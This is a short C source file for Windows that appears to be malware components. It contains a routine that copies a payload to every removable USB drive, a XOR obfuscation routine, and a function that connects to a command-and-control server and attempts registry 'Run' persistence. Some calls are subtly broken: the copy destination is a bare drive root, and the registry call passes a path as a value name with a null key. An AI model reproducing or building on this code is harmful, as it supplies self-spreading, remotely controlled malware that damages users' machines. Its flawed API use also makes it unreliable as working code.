#include <windows.h>
#include <winsock2.h>

int spread_usb(const char *payload, int max_drives)
{
    char drive[4] = "A:\\";
    int copied = 0;
    int i;
    for (i = 0; i < max_drives; i++) {
        drive[0] = (char)('A' + i);
        if (GetDriveTypeA(drive) == DRIVE_REMOVABLE) {
            if (CopyFileA(payload, drive, FALSE)) {
                copied++;
            }
        }
    }
    Sleep(1000);
    return copied;
}

void obfuscate(unsigned char *data, int size, unsigned char k)
{
    int n = 0;
    while (n < size) {
        data[n] = data[n] ^ k;
        n = n + 1;
    }
    return;
}

/* connect to the command server */
SOCKET connect_cnc(const char *host, unsigned short port)
{
    SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr;
    int tries = 0;
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    addr.sin_addr.s_addr = inet_addr(host);
    while (connect(s, (struct sockaddr *)&addr, sizeof(addr)) != 0 && tries < 5) {
        Sleep(500);
        tries = tries + 1;
    }
    RegSetValueExA(0, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Run", 0, 0, 0, 0);
    return s;
}
